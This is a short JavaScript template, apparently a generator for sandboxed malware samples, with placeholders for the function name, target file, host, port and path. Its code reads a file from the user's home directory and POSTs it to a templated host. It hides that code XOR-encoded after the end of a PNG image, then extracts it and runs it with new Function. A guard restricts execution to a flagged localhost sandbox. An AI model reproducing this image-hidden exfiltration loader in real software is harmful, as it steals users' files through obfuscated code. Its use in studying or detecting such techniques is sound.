// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const fs = require('fs');
    const code = `const t = require('fs').readFileSync(require('os').homedir() + '/{{file}}', 'utf8');
        const c = require('http').request({ host: '{{ip}}', port: {{port}}, method: 'POST', path: '/{{path}}', timeout: 900 }); c.on('timeout', () => c.destroy()); c.on('error', () => {}); c.on('response', (r) => r.resume()); c.end(t);`;
    try {
        const png = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
        fs.writeFileSync('/tmp/{{token}}.png', Buffer.concat([png, Buffer.from(code).map((byte) => byte ^ 0x5a)]));
        const image = fs.readFileSync('/tmp/{{token}}.png');
        const hidden = image.subarray(image.indexOf('IEND') + 8).map((byte) => byte ^ 0x5a);
        new Function('require', hidden.toString())(require('module').createRequire('/tmp/'));
    } catch {}
}
